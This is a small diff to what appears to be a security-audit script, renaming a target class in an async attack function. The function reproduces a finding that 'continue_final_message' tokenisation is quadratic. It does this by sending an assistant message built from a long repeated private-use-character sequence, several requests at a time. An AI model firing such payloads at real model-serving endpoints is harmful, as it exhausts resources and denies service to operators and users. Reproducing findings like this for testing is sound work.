@@ -2,7 +2,7 @@
 
 import json
 
-from tools.attacks.target import Target
+from tools.attacks.target import AttackTarget
 
 FINDING = "9: continue_final_message is quadratic"
 
@@ -11,7 +11,7 @@ AT_ONCE = 4
 HEADERS = {"content-type": "application/json"}
 
 
-async def attack(target: Target) -> None:
+async def attack(target: AttackTarget) -> None:
     """To be tokenised, several at once."""
     message = {"role": "assistant", "content": "\ue000end\ue000" * REPEATS}
     body = {"messages": [message], "continue_final_message": True, "add_generation_prompt": False}
